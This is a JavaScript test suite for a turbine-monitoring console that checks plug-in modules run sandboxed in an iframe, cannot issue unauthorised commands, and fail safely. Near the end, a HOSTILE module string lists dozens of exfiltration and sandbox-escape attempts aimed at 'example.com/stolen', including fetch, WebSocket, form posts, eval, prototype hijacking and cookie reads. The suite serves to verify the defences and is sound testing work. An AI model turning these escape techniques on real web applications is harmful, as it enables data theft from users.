// Modules of packs in their frame: what they are given, and what they are not.
import assert from 'node:assert/strict';
import { createServer } from 'node:net';
import { describe, test } from 'node:test';
import { view } from './fake-api.mjs';
import { fitForAll, settled, skip, withConsole } from './journey.mjs';

const TAB = '#/twins/wt-01/views/energy/module';

describe('modules of packs', { skip }, () => {
  const site = withConsole();

  /** The frame of the module, when it has drawn something; another one where the view has been replaced meanwhile. */
  async function frameOf(page, selector) {
    for (const end = Date.now() + 20_000; ;) {
      const frame = await (await page.page.$('g-module iframe'))?.contentFrame();
      if (await frame?.$(selector).catch(() => null)) {
        return frame;
      }
      assert.ok(Date.now() < end, `no ${selector} in the frame`);
      await new Promise(resolve => setTimeout(resolve, 100));
    }
  }

  /** Clicks in the frame once the browser leads the pointer there: what has just been drawn, or was below a dialog, may not be told of it yet. */
  async function click(page, frame, selector) {
    const target = await frame.$(selector);
    await target.evaluate(each => {
      each.reached = false;
      each.addEventListener('pointermove', () => (each.reached = true), { once: true });
    });
    for (let i = 0; !(await target.evaluate(each => each.reached)); i++) {
      assert.ok(i < 400, `the pointer does not come to ${selector} in the frame`);
      const { x, y, width, height } = await target.boundingBox();
      await page.page.mouse.move(x + width / 2 + (i % 2), y + height / 2);
      await new Promise(resolve => setTimeout(resolve, 50));
    }
    await page.page.mouse.down();
    await page.page.mouse.up();
  }

  /** As after the five seconds in which the console asks whether views have changed. */
  const refresh = page => page.page.evaluate(() => document.querySelector('g-twin').loadViews());

  /** Serves this code as the module, as another version of the pack would. */
  function serve(code) {
    const { views } = site.fake;
    const at = views.findIndex(each => each.entry.id === 'rose');
    const before = views[at];
    views[at] = view('rose.mjs', code);
    return () => (views[at] = before);
  }

  test('a module shows live values, follows language and theme, and is disposed of when one leaves', async () => {
    await site.visit(TAB, async page => {
      const said = [];
      page.page.on('console', message => said.push(message.text()));
      const frame = await frameOf(page, 'svg text');
      const power = () => frame.$eval('text:last-of-type', each => each.textContent);
      await frame.waitForFunction(() => /kW/.test(document.body.textContent), { polling: 100 });
      const first = await power();
      await frame.waitForFunction(before => document.querySelector('text:last-of-type').textContent !== before, { polling: 100 }, first);
      await page.press('한국어');
      await frame.waitForFunction(() => document.body.textContent.includes('3 MW로 제한'), { polling: 100 });
      await page.press('English');
      await fitForAll(page, 'module');
      await frame.waitForFunction(() => document.documentElement.style.colorScheme === 'dark', { polling: 100 });
      await page.at('#/twins/wt-01');
      await page.see('g-now td.live');
      await page.page.waitForFunction(() => !document.querySelector('iframe'));
      for (let i = 0; i < 100 && !said.includes('rose disposed'); i++) {
        await new Promise(resolve => setTimeout(resolve, 50));
      }
      assert.ok(said.includes('rose disposed'));
    });
  });

  test('a command goes through the question of the console, and not without rights', async () => {
    await site.visit(TAB, async page => {
      const frame = await frameOf(page, 'button');
      await click(page, frame, 'button');
      await page.words('Asked for by the view “Wind and power” of a pack.');
      await settled(page);
      await page.shot('module-command');
      await page.press('Give the command', 'dialog');
      await frame.waitForFunction(() => document.querySelector('p').textContent === 'taken', { polling: 100 });
      assert.equal(site.fake.commands.list[0].arguments.limit, 3000);
      await click(page, frame, 'button');
      await page.page.waitForFunction(() => document.querySelector('dialog'), { polling: 100 });
      await page.press('Cancel', 'dialog');
      await frame.waitForFunction(() => document.querySelector('p').textContent === 'Not given.', { polling: 100 });
    });
    await site.visit(
      TAB,
      async page => {
        const frame = await frameOf(page, 'button');
        await click(page, frame, 'button');
        await frame.waitForFunction(() => document.querySelector('p').textContent.includes('role operator'), { polling: 100 });
        assert.equal(await page.page.$('dialog'), null);
      },
      { as: 'vera' },
    );
  });

  test('a command that the pack is not granted, or that nobody has clicked for, is refused', async () => {
    const { grant } = site.fake.packs[0];
    const commands = grant.commands;
    grant.commands = [];
    await site.visit(TAB, async page => {
      const frame = await frameOf(page, 'button');
      await click(page, frame, 'button');
      await frame.waitForFunction(() => document.querySelector('p').textContent.includes('has not been granted'), { polling: 100 });
    });
    grant.commands = commands;
    const back = serve(`export async function mount(element, host) {
      const { taken, reason } = await host.command('set-power-limit', { limit: 3000 });
      element.appendChild(document.createElement('b')).textContent = taken + ' ' + reason;
    }`);
    await site.visit(TAB, async page => {
      const frame = await frameOf(page, 'b');
      assert.match(await frame.$eval('b', each => each.textContent), /false .*right after a click/);
    });
    back();
  });

  test('another version replaces the module without reload, and without the module its place says so', async () => {
    await site.visit(TAB, async page => {
      await frameOf(page, 'button');
      await page.page.evaluate(() => (window.kept = true));
      const back = serve(`export const mount = element => { element.appendChild(document.createElement('i')).textContent = 'second'; };`);
      const before = await page.page.$('iframe');
      await page.page.waitForFunction(old => document.querySelector('iframe') !== old, { polling: 100 }, before);
      await frameOf(page, 'i');
      back();
      const { views } = site.fake;
      site.fake.views = views.filter(each => each.entry.kind !== 'module');
      await refresh(page);
      await page.words('has failed: Error: the pack does not list it');
      site.fake.views = site.fake.views.filter(each => each.entry.id !== 'module');
      await refresh(page);
      await page.words('This view is no longer there');
      site.fake.views = views;
      await refresh(page);
      await frameOf(page, 'button');
      assert.ok(await page.page.evaluate(() => window.kept));
    });
  });

  test('a hostile module reaches neither network nor console nor storage', async () => {
    let connections = 0;
    const other = createServer(socket => {
      connections++;
      socket.destroy();
    });
    await new Promise(resolve => other.listen(0, '127.0.0.1', resolve));
    const back = serve(HOSTILE.replaceAll('example.com', `127.0.0.1:${other.address().port}`));
    await site.visit(TAB, async page => {
      const frame = await frameOf(page, 'pre');
      const reached = JSON.parse(await frame.$eval('pre', each => each.textContent));
      assert.ok(Object.keys(reached).length > 40);
      assert.deepEqual(
        Object.entries(reached).filter(([, how]) => !how.startsWith('refused')),
        [],
      );
      await (await frame.$('pre')).click();
      await page.page.waitForFunction(() => window.breaches.some(each => each.startsWith('frame-src')), { polling: 100 });
      assert.equal(connections, 0);
      assert.ok(!site.fake.requests.some(each => /stolen/.test(each)));
      page.wrong = []; // the browser tells of all that it has refused
      await page.page.evaluate(() => (window.breaches = []));
    });
    back();
    other.close();
  });

  test('a module that fails, hangs or floods is named in its place, and the console lives on', async () => {
    await site.visit(TAB, async page => {
      await frameOf(page, 'button');
      await page.page.evaluate(() => {
        window.longest = 0;
        let last = performance.now();
        setInterval(() => {
          window.longest = Math.max(window.longest, performance.now() - last);
          last = performance.now();
        }, 50);
      });
      for (const [code, words] of [
        [`export function mount() { throw new RangeError('too far'); }`, 'has failed: RangeError: too far'],
        [`export const nothing = 1;`, "exports no function 'mount'"],
        [`export function mount( {`, 'has failed: SyntaxError'],
        [`export function mount(element, host) { setInterval(() => host.setHeight(100), 1); }`, 'sends more than it may'],
        [`export function mount() { location.href = 'frame.html?stolen'; }`, 'has left its frame'],
        [`export function mount(element, host) { host.onChange(() => { for (;;); }); }`, 'does not answer and has been ended'],
      ]) {
        const back = serve(code);
        await refresh(page);
        await page.words(words);
        back();
      }
      await page.shot('module-hangs');
      assert.ok((await page.page.evaluate(() => window.longest)) < 4000, 'the console stood still with the module');
      await page.press('Start again');
      await frameOf(page, 'button');
      await page.at('#/twins/wt-01');
      await page.see('g-now td.live');
      page.wrong = page.wrong.filter(each => !/too far|no function|SyntaxError/.test(each));
    });
  });
});

/** Tries every way out that its author could think of, and writes down what came of each. */
const HOSTILE = `
const tried = {};
const refused = error => 'refused: ' + error;
const slow = promise => Promise.race([promise, new Promise((_, reject) => setTimeout(() => reject('nothing came'), 1500))]);
async function attempt(name, act) {
  try {
    tried[name] = 'reached: ' + String(await slow(Promise.resolve().then(act)));
  } catch (error) {
    tried[name] = refused(error);
  }
}
const loaded = element => new Promise((resolve, reject) => { element.onload = () => resolve('loaded'); element.onerror = () => reject('error'); document.body.append(element); });
const make = (name, attributes) => Object.assign(document.createElement(name), attributes);
const present = value => { if (value === undefined) throw 'not there'; return value; };
export async function mount(element, host) {
  await attempt('fetch platform', () => fetch('/api/v1/session', { credentials: 'include' }).then(answer => answer.status));
  await attempt('fetch other', () => fetch('http://example.com/stolen'));
  await attempt('xhr', () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onload = resolve; x.onerror = () => reject('error'); x.open('GET', '/api/v1/twins'); x.send(); }));
  await attempt('beacon', () => { if (!navigator.sendBeacon('http://example.com/stolen', 'x')) throw 'false'; throw 'unknown, the test counts requests'; });
  await attempt('websocket', () => new Promise((resolve, reject) => { const s = new WebSocket('ws://example.com/stolen'); s.onopen = resolve; s.onerror = () => reject('error'); }));
  await attempt('events', () => new Promise((resolve, reject) => { const s = new EventSource('/api/v1/events'); s.onopen = resolve; s.onerror = () => reject('error'); }));
  await attempt('image', () => loaded(make('img', { src: 'http://example.com/stolen.png' })));
  await attempt('image of the platform', () => loaded(make('img', { src: '/ui/frame.html' })));
  await attempt('font', () => new FontFace('x', 'url(http://example.com/stolen.woff2)').load());
  await attempt('style', () => loaded(make('style', { textContent: '@import url(http://example.com/stolen.css); body { background: url(http://example.com/stolen2.png) }' })).then(() => { throw 'inline style; its addresses are counted' }));
  await attempt('script', () => loaded(make('script', { src: 'http://example.com/stolen.js' })));
  await attempt('script of the platform', () => loaded(make('script', { src: '/api/v1/twins' })));
  await attempt('import', () => import('http://example.com/stolen.mjs'));
  await attempt('import of data', () => import('data:text/javascript,export default 1'));
  await attempt('eval', () => (0, eval)('1'));
  await attempt('Function', () => new Function('return 1')());
  await attempt('timer', () => new Promise(resolve => { globalThis.timer = resolve; setTimeout('timer()', 0); }));
  await attempt('markup', () => { element.innerHTML = '<b>x</b>'; return element.innerHTML; });
  await attempt('markup by setHTML', () => { element.setHTML('<link rel=preconnect href=http://example.com>', { sanitizer: { elements: ['link'] } }); return 1; });
  await attempt('write', () => { document.write('<b>x</b>'); return 1; });
  await attempt('fragment', () => document.createRange().createContextualFragment('<b>x</b>'));
  await attempt('parser', () => new DOMParser().parseFromString('<b/>', 'text/html'));
  await attempt('hint', () => document.createElement('link'));
  await attempt('hint by namespace', () => document.createElementNS('http://www.w3.org/1999/xhtml', 'x:link'));
  await attempt('hint by trick', () => { let n = 0; return document.createElement({ toString: () => (n++ ? 'link' : 'link') }); });
  await attempt('hint by hijack', () => { const { has } = Set.prototype; Set.prototype.has = () => false; String.prototype.toLowerCase = () => 'div'; Function.prototype.call = Function.prototype.apply = function () { globalThis.original = this; }; try { return document.createElement('link'); } finally { Set.prototype.has = has; } });
  await attempt('frame', () => document.createElement('iframe'));
  await attempt('custom link', () => { class L extends present(globalThis.HTMLLinkElement) {} customElements.define('x-l', L, { extends: 'link' }); return new L(); });
  await attempt('peer', () => new RTCPeerConnection());
  await attempt('worker', () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = resolve; w.onerror = () => reject('error'); }));
  await attempt('parent document', () => parent.document.title);
  await attempt('parent address', () => parent.location.href);
  await attempt('top', () => { top.location.href = 'http://example.com/stolen'; return 1; });
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => localStorage.length);
  await attempt('session storage', () => sessionStorage.length);
  await attempt('database', () => new Promise((resolve, reject) => { const r = indexedDB.open('x'); r.onsuccess = resolve; r.onerror = () => reject('error'); }));
  await attempt('window', () => present(open('http://example.com/stolen') ?? undefined));
  await attempt('form', () => { const f = make('form', { action: 'http://example.com/stolen', method: 'post' }); document.body.append(f); f.submit(); throw 'the test counts requests'; });
  await attempt('clipboard', () => navigator.clipboard.readText());
  await attempt('a point that is not listed', () => present(host.value('WTUR.ExpW')?.text));
  await attempt('a command that is not listed', async () => { const { taken, reason } = await host.command('set-pitch', { pitch: 1 }); if (!taken) throw reason; return taken; });
  await attempt('a trend that nobody clicked for', () => { host.openTrend('WTUR.W'); throw 'the test looks'; });
  element.appendChild(document.createElement('pre')).textContent = JSON.stringify(tried, null, 1);
  document.body.onclick = () => (location.href = 'http://example.com/stolen?' + host.value('WTUR.W')?.text);
}
`;
